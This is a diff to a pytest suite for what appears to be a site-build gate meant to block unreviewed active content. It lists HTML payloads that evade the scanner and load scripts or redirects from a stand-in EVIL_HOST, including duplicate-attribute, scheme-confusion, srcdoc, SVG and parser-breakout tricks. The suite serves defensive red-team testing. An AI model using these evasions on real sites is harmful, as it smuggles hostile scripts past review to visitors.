@@ -31,10 +31,10 @@ def published(site: Site) -> list[str]:
 
 # -- active content: a reviewed page that loads, runs or redirects to another host ----------------------
 
-EVASIONS = {
-    # browsers use the FIRST of two equal attributes; the scanner keeps the last
+FIXED_EVASIONS = {
+    # browsers use the FIRST of two equal attributes; the scanner kept the last
     "duplicate-attribute": f'<script src="https://{EVIL_HOST}/x.js" src="https://www.mkdocs.org/x.js"></script>',
-    # "///host" and "http:host" are absolute to a browser (special-scheme URL parsing), relative to urlsplit
+    # "///host" and "http:host" are absolute to a browser (special-scheme URL parsing), were relative to urlsplit
     "triple-slash": f'<script src="///{EVIL_HOST}/x.js"></script>',
     "scheme-without-slashes": f'<script src="http:{EVIL_HOST}/x.js"></script>',
     # the refresh URL need not be introduced by "url="
@@ -43,24 +43,49 @@ EVASIONS = {
     "iframe-srcdoc": f'<iframe srcdoc="&lt;script src=https://{EVIL_HOST}/x.js&gt;&lt;/script&gt;"></iframe>',
     # an SVG script loads through href / xlink:href, not src
     "svg-script-href": f'<svg><script href="https://{EVIL_HOST}/x.js"></script></svg>',
-    # parser differentials: html.parser sees text where a browser sees a tag
+}
+# parser differentials: html.parser (Python 3.11) sees text where a browser sees a tag; needs an HTML5 parser
+PARSER_EVASIONS = {
     "svg-style-breakout": f'<svg><style><meta http-equiv="refresh" content="0;url=https://{EVIL_HOST}/"></style></svg>',
     "abrupt-comment": f'<!--><script src="https://{EVIL_HOST}/x.js"></script>-->',
     "noscript-attribute": f'<noscript><p title="</noscript><script src=https://{EVIL_HOST}/x.js></script>"></noscript>',
 }
 
 
-@pytest.mark.xfail(strict=True, reason="red team: activecontent.py reads HTML and URLs unlike a browser "
-                   "(see the case id)")
-@pytest.mark.parametrize("name", list(EVASIONS))
-def test_active_content_evasion_is_published(tmp_path: Path, name: str) -> None:
-    site = approved_site(tmp_path / "s")
-    site.page("a.md", "# 通知\n\n正文。\n\n" + EVASIONS[name] + "\n")
+def build_with_body(root: Path, html: str) -> tuple[Site, object]:
+    site = approved_site(root)
+    site.page("a.md", "# 通知\n\n正文。\n\n" + html + "\n")
     site.approve("a.md")       # reviewers sign the text they see; the gate must still block the active content
-    result = site.gate_build()
+    return site, site.gate_build()
+
+
+@pytest.mark.parametrize("name", list(FIXED_EVASIONS))
+def test_active_content_evasion_blocks_the_build(tmp_path: Path, name: str) -> None:
+    """Was published (activecontent.py read these unlike a browser); fixed in activecontent.py."""
+    site, result = build_with_body(tmp_path / "s", FIXED_EVASIONS[name])
+    assert result.returncode != 0 and EVIL_HOST in result.stderr, result.stderr[-400:]
+    assert published(site) == []
+
+
+@pytest.mark.xfail(strict=True, reason="red team: activecontent.py parses with html.parser, which reads these "
+                   "unlike a browser (HTML5 tokenizer/tree-builder differentials); needs a spec parser")
+@pytest.mark.parametrize("name", list(PARSER_EVASIONS))
+def test_active_content_parser_evasion_is_published(tmp_path: Path, name: str) -> None:
+    site, result = build_with_body(tmp_path / "s", PARSER_EVASIONS[name])
     page = site.site_dir / "a" / "index.html"
     assert result.returncode != 0, f"published, {EVIL_HOST} in a/index.html: {EVIL_HOST in page.read_text()}"
     assert published(site) == []
+
+
+def test_xml_stylesheet_in_an_svg_attachment_blocks_the_build(tmp_path: Path) -> None:
+    """Was published: ``<?xml-stylesheet href=…?>`` loads a stylesheet when the SVG is opened."""
+    site = approved_site(tmp_path / "s")
+    site.write("content/img/chart.svg", f'<?xml-stylesheet type="text/css" href="https://{EVIL_HOST}/x.css"?>'
+               '<svg xmlns="http://www.w3.org/2000/svg"><text x="0" y="15">统计图</text></svg>')
+    site.page("a.md", "# 统计\n\n![统计图](img/chart.svg)\n")
+    site.approve("a.md")
+    result = site.gate_build()
+    assert result.returncode != 0 and EVIL_HOST in result.stderr, result.stderr[-400:]
 
 
 # -- inline seal: replay of an older seal (rollback) -----------------------------------------------------
@@ -112,12 +137,13 @@ def test_blog_authors_file_publishes_unreviewed_text(tmp_path: Path) -> None:
     assert result.returncode != 0 or "ZZQX未审文字" not in site.site_text()
 
 
-@pytest.mark.xfail(strict=True, reason="red team: an SVG attachment counts as an image with no text to read; its "
-                   "script href, event handlers and text are published unscanned (reviewers see only the picture)")
-def test_svg_attachment_redirects_and_loads_scripts(tmp_path: Path) -> None:
+@pytest.mark.xfail(strict=True, reason="red team: an SVG attachment counts as an image with no text to read; "
+                   "its inline script and event handlers are published unscanned (reviewers see only the picture; "
+                   "opened directly it runs on the site's origin)")
+def test_svg_attachment_with_inline_script_is_published(tmp_path: Path) -> None:
     site = approved_site(tmp_path / "s")
     site.write("content/img/chart.svg", '<svg xmlns="http://www.w3.org/2000/svg" '
-               f'onload="location.href=\'https://{EVIL_HOST}/\'"><script href="https://{EVIL_HOST}/x.js"/>'
+               f'onload="location.href=\'https://{EVIL_HOST}/\'"><script>document.title="x"</script>'
                '<text x="0" y="15">统计图</text></svg>')
     site.page("a.md", "# 统计\n\n![统计图](img/chart.svg)\n")
     site.approve("a.md")
